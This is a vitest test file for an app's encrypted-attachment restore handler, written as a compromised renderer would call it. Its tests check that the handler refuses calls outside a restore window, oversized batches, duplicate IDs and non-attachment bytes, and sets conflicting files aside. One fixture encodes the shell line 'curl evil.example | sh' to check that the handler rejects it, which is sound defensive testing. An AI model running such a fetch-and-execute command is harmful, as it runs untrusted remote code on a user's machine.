/**
 * attachments/restore-encrypted as a compromised renderer would call it: outside a restore, past
 * the backup's size, with files that are not attachments, and over attachments already there.
 */
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { loadSodium } from '@shared/vault/sodium'
import { encryptAttachment, newAttachmentKey } from '@shared/vault/attachmentFile'
import { buildHandlers, type HandlerTable } from '../ipc/handlers'
import { dispatch } from '../ipc/dispatch'
import { RESTORE_WINDOW_MS } from '../vault/restoreGate'
import { LOG_DIR, LOG_FILE } from '../diagnostics/log'
import { createTestPorts, type TestPorts } from '../../tests/support/testPorts'
import { randomBytes } from '../../tests/support/vaultKit'
import { attachmentsFolder, setAsideFolder } from './attachmentFiles'

let env: TestPorts
let picked: string
let table: HandlerTable

beforeEach(async () => {
  env = await createTestPorts({ now: Date.UTC(2026, 10, 28, 18, 40) })
  picked = await mkdtemp(join(tmpdir(), 'afterview-picked-'))
  table = buildHandlers(env.ports)
})
afterEach(async () => {
  await env.dispose()
  await rm(picked, { recursive: true, force: true })
})

const call = (channel: string, payload: unknown) => dispatch(table, channel, payload)

/** A real encrypted attachment file: an offer letter from Société Générale, say. */
async function attachmentFile(text: string): Promise<string> {
  const sodium = await loadSodium()
  const bytes = encryptAttachment(sodium, newAttachmentKey(sodium), new TextEncoder().encode(text))
  return Buffer.from(bytes).toString('base64')
}

/** The user chooses a backup file of `size` bytes in the open dialog. */
async function chooseBackup(size: number): Promise<void> {
  const path = join(picked, 'Afterview backup 2026-11-28.afterview-backup')
  await writeFile(path, randomBytes(size))
  env.dialog.opens.push(path)
  expect((await call('backup/open', {})).ok).toBe(true)
}

const FILE_A = '0123456789abcdef0123456789abcdef'
const FILE_B = 'fedcba9876543210fedcba9876543210'
const LETTER = 'Offre de Société Générale pour Zoë Müller-Lüdenscheidt: 68 000 EUR brut annuel'

async function stored(): Promise<string[]> {
  return (await readdir(attachmentsFolder(env.dataDir)).catch(() => [])).sort()
}

describe('attachments/restore-encrypted', () => {
  it('refuses to write anything when no backup was chosen', async () => {
    const files = [{ fileId: FILE_A, dataB64: await attachmentFile(LETTER) }]
    const answer = await call('attachments/restore-encrypted', { files })
    expect(answer).toMatchObject({ ok: false, error: { kind: 'not-in-restore' } })
    expect(await stored()).toEqual([])
  })

  it('refuses once the restore has been open longer than its window', async () => {
    await chooseBackup(8_192)
    env.advance(RESTORE_WINDOW_MS + 1)
    const files = [{ fileId: FILE_A, dataB64: await attachmentFile(LETTER) }]
    const answer = await call('attachments/restore-encrypted', { files })
    expect(answer).toMatchObject({ ok: false, error: { kind: 'not-in-restore' } })
    expect(await stored()).toEqual([])
  })

  it('refuses more bytes than the chosen backup holds, and writes none of the batch', async () => {
    await chooseBackup(200)
    const files = [
      { fileId: FILE_A, dataB64: await attachmentFile(LETTER) },
      { fileId: FILE_B, dataB64: await attachmentFile(LETTER.repeat(3)) },
    ]
    const answer = await call('attachments/restore-encrypted', { files })
    expect(answer).toMatchObject({ ok: false, error: { kind: 'too-large' } })
    expect(await stored()).toEqual([])
  })

  it('refuses bytes that are not an attachment file, and writes none of the batch', async () => {
    await chooseBackup(8_192)
    const files = [
      { fileId: FILE_A, dataB64: await attachmentFile(LETTER) },
      {
        fileId: FILE_B,
        dataB64: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n').toString('base64'),
      },
    ]
    const answer = await call('attachments/restore-encrypted', { files })
    expect(answer).toMatchObject({ ok: false, error: { kind: 'not-an-attachment' } })
    expect(await stored()).toEqual([])
  })

  it('refuses the same file id twice in one batch', async () => {
    await chooseBackup(8_192)
    const dataB64 = await attachmentFile(LETTER)
    const files = [
      { fileId: FILE_A, dataB64 },
      { fileId: FILE_A, dataB64: await attachmentFile('autre') },
    ]
    const answer = await call('attachments/restore-encrypted', { files })
    expect(answer).toMatchObject({ ok: false, error: { kind: 'invalid-payload' } })
  })

  it('sets an attachment with other contents aside instead of overwriting it, and says so', async () => {
    await chooseBackup(8_192)
    const first = await attachmentFile(LETTER)
    await call('attachments/restore-encrypted', { files: [{ fileId: FILE_A, dataB64: first }] })
    const same = await call('attachments/restore-encrypted', {
      files: [{ fileId: FILE_A, dataB64: first }],
    })
    expect(same).toEqual({ ok: true, value: { setAside: 0 } })
    const other = await attachmentFile('Contrat signé, trois interlocuteurs')
    const replaced = await call('attachments/restore-encrypted', {
      files: [{ fileId: FILE_A, dataB64: other }],
    })
    expect(replaced).toEqual({ ok: true, value: { setAside: 1 } })
    const [kept] = await readdir(setAsideFolder(env.dataDir))
    expect(kept).toMatch(new RegExp(`^${FILE_A}\\.[0-9a-f]{8}$`))
    expect((await readFile(join(setAsideFolder(env.dataDir), kept!))).toString('base64')).toBe(
      first,
    )
    expect((await readFile(join(attachmentsFolder(env.dataDir), FILE_A))).toString('base64')).toBe(
      other,
    )
    await env.ports.log.flushed()
    const log = await readFile(join(env.dataDir, LOG_DIR, LOG_FILE), 'utf8')
    expect(log).toContain('set aside: not overwritten')
  })
})
